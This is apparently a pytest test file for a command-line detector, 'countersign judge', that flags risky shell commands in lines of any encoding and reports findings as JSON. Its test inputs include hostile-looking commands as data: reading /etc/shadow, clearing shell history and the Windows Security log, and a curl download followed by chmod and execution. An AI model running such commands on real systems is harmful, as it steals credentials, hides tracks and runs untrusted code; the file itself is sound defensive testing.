"""`countersign judge` as a person uses it: any bytes in, a JSON object a line out."""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from bot.roof import cli
from bot.roof.verbs import judge
from queries.rulebook import load

ROOT = Path(__file__).parents[1]
BOOK = load()


@pytest.fixture(autouse=True)
def _rules_read_once(monkeypatch):
    """The house's rules, without reading them for every line."""
    monkeypatch.setattr(judge, "load", lambda _: BOOK)


@pytest.fixture(name="judged")
def _judged(tmp_path, capsys):
    """Judges bytes in a file; gives the objects and what was said beside them."""

    def run(raw: bytes, *words: str):
        (tmp_path / "lines").write_bytes(raw)
        assert 0 == cli.main(["judge", str(tmp_path / "lines"), *words], {})
        said = capsys.readouterr()
        return [json.loads(line) for line in said.out.splitlines()], said.err

    return run


def found(record: dict) -> list[str]:
    """The rules that spoke."""
    return [finding["rule"] for finding in record["findings"]]


@pytest.mark.parametrize(
    "raw",
    [
        pytest.param(b"cat /etc/shadow\n", id="plain"),
        pytest.param(b"cat /etc/shadow", id="no end of line"),
        pytest.param(b"cat /etc/shadow\r\n", id="CRLF"),
        pytest.param(b"cat /etc/sha\0dow\n", id="a NUL, which shells drop"),
        pytest.param("cat /etc/shadow\n".encode("utf-16"), id="UTF-16, as PowerShell writes it"),
        pytest.param(b"\xfe\xff" + "cat /etc/shadow\n".encode("utf-16-be"), id="UTF-16, the other way round"),
        pytest.param(b"\xef\xbb\xbfcat /etc/shadow\n", id="UTF-8 with a mark"),
        pytest.param(b"cat /home/jos\xe9 /etc/shadow\n", id="Latin-1"),
        pytest.param(b'{"text": "cat /etc/shadow"}\n', id="JSON"),
        pytest.param(b'{"text": "cat /etc/shadow \\ud800", "os": null}\n', id="JSON with half a character"),
        pytest.param(b"{ cat /etc/shadow; }\n", id="a group, which begins like JSON"),
        pytest.param(b"cat /etc/shadow " + b"A" * 300_000, id="a huge line"),
    ],
)
def test_one_line_in_any_dress(judged, raw):
    """A command is found in every encoding and with every end of line that a file may have."""
    records, said = judged(raw)
    assert "secret_file_read" in found(records[0])
    assert (1, "") == (len(records), said)


def test_every_line_gets_one_object(judged):
    """Empty lines keep their place, so that output and input can be laid side by side."""
    records, _ = judged(b"id\n\n\nhistory -c\n")
    assert [(1, True), (2, False), (3, False), (4, True)] == [(one["line"], bool(one["findings"])) for one in records]


def test_what_is_odd_is_said_beside_the_output(judged):
    """JSON without a text, and a platform that is none, are named with their line; the rest is judged."""
    records, said = judged(b'{"text": 3}\n{"text": "cat /etc/shadow", "os": "amiga", "id": 7}\n')
    assert "line 1: this JSON has no `text`" in said
    assert "line 2: os is linux or windows, not 'amiga'" in said
    assert ("linux", 7, True) == (records[1]["os"], records[1]["id"], "secret_file_read" in found(records[1]))


def test_the_platform_of_lines(judged):
    """--os is for lines that do not say their own."""
    records, _ = judged(b'wevtutil cl Security\n{"text": "cat /etc/shadow", "os": "linux"}\n', "--os", "windows")
    assert (["win_eventlog_cleared"], True) == (found(records[0]), "secret_file_read" in found(records[1]))


def test_lines_of_one_session(judged):
    """With --session, what belongs together is found at the line that completes it, with all lines that it rests on."""
    raw = b"curl -O http://192.0.2.10/m\nchmod +x m\n./m\n"
    assert [] == found(judged(raw)[0][2])
    (finding,) = judged(raw, "--session")[0][2]["findings"]
    assert ("downloaded_then_run", [1, 3]) == (finding["rule"], finding["lines"])


def test_a_transcript_is_judged_with_its_own_lines_and_times(judged):
    """The output of `countersign transcript --json` goes in as it is: its line numbers are named, its times count."""
    lines = [{"line": 4, "text": "curl -O http://192.0.2.10/m", "at": "2026-11-23T10:00:00+00:00"}, {"line": 9, "text": "./m", "at": None}]
    records, _ = judged("\n".join(map(json.dumps, lines)).encode(), "--session")
    assert [4, 9] == records[1]["findings"][0]["lines"]
    late = [lines[0], {"line": 9, "text": "./m", "at": "2026-11-23T20:00:00+00:00"}]
    assert [] == found(judged("\n".join(map(json.dumps, late)).encode(), "--session")[0][1])


def test_standard_input_in_any_bytes(monkeypatch, capsys):
    """Standard input is read as bytes, so that no byte of it is an error."""
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(b"cat /etc/shadow \xff\xfe\x80\n")))
    assert 0 == cli.main(["judge"], {})
    assert "secret_file_read" in capsys.readouterr().out


def test_a_reader_that_goes_away_is_no_error(tmp_path):
    """`judge … | head -1` ends quietly."""
    (tmp_path / "lines").write_text("cat /etc/shadow\n" * 20_000)
    child = subprocess.Popen(
        [sys.executable, "-m", "bot", "judge", str(tmp_path / "lines")],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        cwd=ROOT,
        env={name: value for name, value in os.environ.items() if not name.startswith("COUNTERSIGN_")},
    )
    assert child.stdout
    assert child.stderr
    child.stdout.readline()
    child.stdout.close()
    said = child.stderr.read()
    child.stderr.close()
    assert (141, b"") == (child.wait(timeout=60), said)
